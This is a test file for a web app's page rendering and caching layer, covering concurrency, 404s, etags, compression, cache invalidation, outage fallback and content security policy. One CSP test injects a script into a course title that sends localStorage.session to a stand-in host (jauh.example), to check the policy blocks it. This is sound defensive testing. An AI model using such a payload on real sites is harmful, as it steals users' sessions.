import type { ApiClient } from '#contract/client.ts'
import { createHash } from 'node:crypto'
import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { minuteMs } from '#contract/kit/durations.ts'
import { openTestDatabase } from '#testing/postgres/test-database.ts'
import { publicUrl, startTestSite, type TestSite } from '#testing/test-site.ts'
import type { PageRenderer } from './renderer.ts'

// A renderer that shows what the API returns and counts its calls.
let renderings = 0
const isMadeUp = ({ pathname }: URL): boolean => pathname.startsWith('/tidak-ada')
let hold: Promise<void> | null = null
const renderer: PageRenderer<ApiClient> = {
  inlineScripts: ['start()'],
  exerciseFrame: '',
  inlineStyles: ['body{}'],
  describe: (url) => ({
    cacheKey: url.pathname === '/segar' ? null : isMadeUp(url) ? 'any path' : url.pathname + url.search,
    isForAnyPath: isMadeUp(url),
    isFreeText: url.search !== '',
    url: url.origin + url.pathname,
    isPrivate: url.pathname.startsWith('/student'),
  }),
  async render(page, api) {
    renderings++
    if (page.url.endsWith('/rusak')) throw new Error('rendering failed')
    if (page.url.endsWith('/pindah')) return { kind: 'redirect', status: 301, location: '/kelas' }
    if (isMadeUp(new URL(page.url))) return { kind: 'html', status: 404, html: '<!DOCTYPE html><title>404</title>' }
    const { data } = await api.catalog.listCourses({})
    await hold
    const titles = data.map((course) => course.title).join(', ')
    return {
      kind: 'html',
      status: 200,
      html: `<!DOCTYPE html><html lang="id"><head><script>start()</script><script type="application/json">{}</script></head><body>${titles}</body></html>`,
    }
  },
}

let site: TestSite
beforeAll(async () => {
  site = await startTestSite({ renderer })
  await site.createCourse({ title: 'Kelas Pertama' })
})
beforeEach(() => {
  renderings = 0
  hold = null
})
afterAll(async () => {
  site.unexpectedErrors.length = 0
  await site.close()
})

const get = (path: string, headers: Record<string, string> = {}) =>
  site.app.fetch(new Request(publicUrl + path, { headers }))

describe('a public page', () => {
  test('is rendered once for concurrent requests, and not again afterwards', async () => {
    const pages = await Promise.all(Array.from({ length: 50 }, () => get('/satu')))
    expect(new Set(await Promise.all(pages.map((page) => page.text()))).size).toBe(1)
    await get('/satu')
    expect(renderings).toBe(1)
  })

  test('of all paths that no page has is rendered once, and says 404 each time', async () => {
    for (let index = 0; index < 5; index++) {
      const { status, headers } = await get(`/tidak-ada/${index}?x=${index}`)
      expect([status, headers.get('content-type')]).toEqual([404, 'text/html; charset=utf-8'])
    }
    expect(renderings).toBe(1)
  })

  test('responds with 304 to a matching etag', async () => {
    const etag = (await get('/dua')).headers.get('etag') ?? ''
    const again = await get('/dua', { 'if-none-match': etag })
    expect([again.status, await again.text()]).toEqual([304, ''])
  })

  test.each([
    ['br', brotliDecompressSync],
    ['gzip', gunzipSync],
  ])('is sent as %s to a browser that accepts it', async (encoding, decompress) => {
    const plain = await (await get('/tiga')).text()
    const packed = await get('/tiga', { 'accept-encoding': encoding })
    expect([packed.headers.get('content-encoding'), packed.headers.get('vary')]).toEqual([encoding, 'accept-encoding'])
    expect(decompress(Buffer.from(await packed.arrayBuffer())).toString()).toBe(plain)
  })

  test('has a policy with the hashes of its inline script and style, and allows no others', async () => {
    const policy = (await get('/satu')).headers.get('content-security-policy') ?? ''
    expect(policy).not.toContain('unsafe-inline')
    expect(policy.match(/sha256-/g)).toHaveLength(2)
    expect(policy).toContain("script-src 'self' 'sha256-")
    expect(policy).toContain("style-src 'self' 'sha256-")
    expect(policy).toContain('http://pay.test')
  })

  test('that contains a script which is not its own has a policy that forbids it', async () => {
    const foreign = 'fetch("https://jauh.example/"+localStorage.session)'
    await site.createCourse({ title: `<script>${foreign}</script>` })
    const page = await get('/asing')
    expect(await page.text()).toContain(`<script>${foreign}</script>`)
    const policy = page.headers.get('content-security-policy') ?? ''
    const hashOf = (script: string) => createHash('sha256').update(script).digest('base64')
    expect([policy.includes(hashOf('start()')), policy.includes(hashOf(foreign))]).toEqual([true, false])
  })

  test('is invalidated when something it shows changes', async () => {
    await get('/empat')
    const { title } = await site.createCourse({ title: 'Kelas Kedua' })
    expect(await (await get('/empat')).text()).toContain(title)
  })

  test('is not invalidated by an edit of a course that is not published, and is by publishing, unpublishing and deleting one', async () => {
    const instructor = await site.createInstructor()
    const draft = await site.createCourse({ instructorId: instructor.id, status: 'draft', lessons: 2 })
    const published = await site.createCourse({ instructorId: instructor.id })
    const renderingsAfter = async (method: string, path: string, body?: object) => {
      await get('/daftar')
      renderings = 0
      expect((await site.call(method, path, { token: instructor.token, body })).status).toBeLessThan(300)
      await get('/daftar')
      return renderings
    }
    const lesson = { title: 'Materi baru', type: 'text', text: '<p>Halo</p>' }
    const [lessonId, otherId] = draft.lessonIds
    const edits: [method: string, path: string, body?: object][] = [
      ['PATCH', `/courses/${draft.id}`, { title: 'Judul Draf' }],
      ['POST', '/courses/content/create', { courseId: draft.id, ...lesson }],
      ['PUT', `/courses/${draft.id}/update-content/${lessonId}`, lesson],
      ['POST', `/courses/${draft.id}/chapters`, { title: 'Bab' }],
      ['DELETE', `/courses/${draft.id}/delete-content/${otherId}`],
      ['POST', `/courses/${published.id}/duplicate`],
    ]
    for (const edit of edits)
      expect({ edit, renderings: await renderingsAfter(...edit) }).toEqual({ edit, renderings: 0 })
    expect(await renderingsAfter('PATCH', `/courses/${draft.id}/status`, { status: 'published' })).toBe(1)
    expect(await renderingsAfter('PUT', `/courses/${draft.id}/update-content/${lessonId}`, lesson)).toBe(1)
    expect(await renderingsAfter('PATCH', `/courses/${draft.id}/status`, { status: 'draft' })).toBe(1)
    expect(await renderingsAfter('DELETE', `/courses/${published.id}`)).toBe(1)
  })

  test('that was being rendered during a change is not cached', async () => {
    let release = () => {}
    hold = new Promise((resolve) => (release = resolve))
    const slow = get('/lima')
    await new Promise((resolve) => setTimeout(resolve, 20))
    const { title } = await site.createCourse({ title: 'Kelas Susulan' })
    // A request after the change does not receive the rendering that began before it.
    hold = null
    expect(await (await get('/lima')).text()).toContain(title)
    release()
    await slow
    expect(await (await get('/lima')).text()).toContain(title)
  })

  test('stays cached when a change is rolled back', async () => {
    await get('/enam')
    renderings = 0
    await site.database
      .transaction(async (tx) => {
        await site.app.modules.settings.writeSite(tx, { name: 'Lain' })
        throw new Error('undone')
      })
      .catch(() => {})
    await get('/enam')
    expect(renderings).toBe(0)
  })

  test('a redirect names its target, and is not cached', async () => {
    for (let visit = 0; visit < 2; visit++) {
      const page = await get('/pindah')
      expect([page.status, page.headers.get('location')]).toEqual([301, '/kelas'])
    }
    expect(renderings).toBe(2)
  })
})

test('a cached response expires when the announcement in it ends', async () => {
  const endsAt = new Date(site.clock.now().getTime() + minuteMs).toISOString()
  const announcement = {
    campaign: 'uji',
    label: "TODAY'S SALE",
    listPrice: 2_500_000,
    price: 89_000,
    promoCode: 'REMOTE',
    startsAt: site.clock.now().toISOString(),
    endsAt,
  }
  await site.database.transaction((tx) => site.app.modules.settings.writeSite(tx, { announcement }))
  expect((await site.call('GET', '/site')).body.data.announcement).toMatchObject({ campaign: 'uji', endsAt })
  site.clock.advance(61_000)
  expect((await site.call('GET', '/site')).body.data.announcement).toBeNull()
})

test('the document of a private page is noindex and no-cache', async () => {
  const { headers } = await get('/student/kelas-saya')
  expect([headers.get('x-robots-tag'), headers.get('cache-control')]).toEqual(['noindex', 'no-cache'])
})

test('a page without a cache key is rendered for each request', async () => {
  await get('/segar')
  await get('/segar')
  expect(renderings).toBe(2)
})

test('a failed rendering is a 500 with an error page, without details, and is not cached', async () => {
  const page = await get('/rusak')
  const html = await page.text()
  expect([page.status, page.headers.get('content-type')]).toEqual([500, 'text/html; charset=utf-8'])
  expect(html).toContain('Ada gangguan di server')
  expect(html).not.toContain('rendering failed')
  await get('/rusak')
  expect(renderings).toBe(2)
})

describe('while the database is unavailable', () => {
  let failure: Error | null = null
  const unavailable = Object.assign(new Error('no connection'), { code: 'ECONNREFUSED' })
  let own: TestSite
  beforeAll(async () => {
    const database = await openTestDatabase()
    const query = Object.getOwnPropertyDescriptor(database, 'query') as PropertyDescriptor
    // Fails as a server that is gone does.
    Object.defineProperty(database, 'query', {
      get() {
        if (failure) throw failure
        return query.get?.call(database)
      },
    })
    own = await startTestSite({ renderer, database })
    await own.createCourse({ title: 'Kelas Pertama' })
  })
  afterAll(async () => {
    own.unexpectedErrors.length = 0
    await own.close()
  })
  const visit = async (path: string) => {
    const response = await own.app.fetch(new Request(publicUrl + path))
    return { status: response.status, isShown: (await response.text()).includes('Kelas Pertama') }
  }
  const invalidate = async () => {
    failure = null
    await own.createCourse({ title: 'Kelas Kedua' })
    failure = unavailable
  }

  test('a page that was cached before a change is still shown, for five minutes, and made anew afterwards', async () => {
    expect(await visit('/kelas')).toEqual({ status: 200, isShown: true })
    await invalidate()
    expect(await visit('/kelas')).toEqual({ status: 200, isShown: true })
    // Once it is known, nobody waits for a server that does not respond.
    const { promise, resolve } = Promise.withResolvers<void>()
    hold = promise
    expect(await visit('/kelas')).toEqual({ status: 200, isShown: true })
    resolve()
    own.clock.advance(4 * minuteMs)
    expect(await visit('/kelas')).toEqual({ status: 200, isShown: true })
    own.clock.advance(2 * minuteMs)
    expect((await visit('/kelas')).status).toBe(503)
    failure = null
    const before = renderings
    await visit('/kelas')
    await visit('/kelas')
    expect(renderings).toBe(before + 1)
  })
})

test('a page responds with 405 to other methods', async () => {
  const response = await site.app.fetch(new Request(`${publicUrl}/satu`, { method: 'POST' }))
  expect([response.status, response.headers.get('allow')]).toEqual([405, 'GET, HEAD'])
})
